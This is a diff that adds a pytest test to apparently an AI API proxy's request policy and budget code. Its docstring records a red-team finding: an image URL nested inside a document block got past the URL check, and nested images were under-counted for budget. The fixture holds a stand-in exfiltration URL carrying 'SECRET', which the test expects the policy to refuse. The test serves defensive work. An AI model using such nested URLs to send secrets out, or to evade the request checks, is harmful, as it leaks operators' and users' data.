@@ -589,3 +589,21 @@ def test_a_run_whose_sidecar_dies_mid_call_has_its_reservation_booked(tmp_path) 
     assert shared.reserve("run-z", 1, 0.1, wait=0.05) == (False, "reservation")
     shared.settle("run-y", 2, 0.65)
     assert shared.reserve("run-z", 2, 0.01) == (False, "budget") and shared.exhausted
+
+
+def test_blocks_nested_anywhere_are_seen() -> None:
+    """Red-team finding: an image by URL inside a document whose source is content slipped past the URL
+    check, and 50 images nested so reserved as text. Every block under system and messages counts."""
+    def message_with(content: list[dict[str, Any]]) -> dict[str, Any]:
+        return {**message(), "messages": [{"role": "user", "content": content}]}
+
+    nested_url = message_with([{"type": "document", "source": {"type": "content", "content": [
+        {"type": "image", "source": {"type": "url", "url": "https://192.0.2.1/exfil?d=SECRET"}}]}}])
+    with pytest.raises(Refusal) as err:
+        ModelSidePolicy([], ["pypi.org"], []).apply(nested_url)
+    assert err.value.reason == "url_source"
+    images = [{"type": "image", "source": {"type": "file", "file_id": f"f{i}"}} for i in range(50)]
+    direct = message_with(images)
+    nested = message_with([{"type": "document", "source": {"type": "content", "content": images}}])
+    bound = estimate_input_tokens(json.dumps(nested).encode(), nested)
+    assert bound >= estimate_input_tokens(json.dumps(direct).encode(), direct) - 1000 and bound > 50 * 8000
